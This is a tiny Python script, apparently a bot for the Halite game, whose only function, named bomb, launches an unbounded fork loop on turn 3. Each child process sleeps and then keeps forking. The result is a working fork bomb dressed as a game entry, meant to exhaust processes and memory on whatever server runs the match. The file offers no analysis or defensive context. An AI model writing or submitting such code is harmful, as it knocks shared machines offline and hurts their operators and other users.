import os, time
from halite import play


def bomb(turn):
    while turn == 3:
        if os.fork() == 0:
            time.sleep(600)


play(bomb)
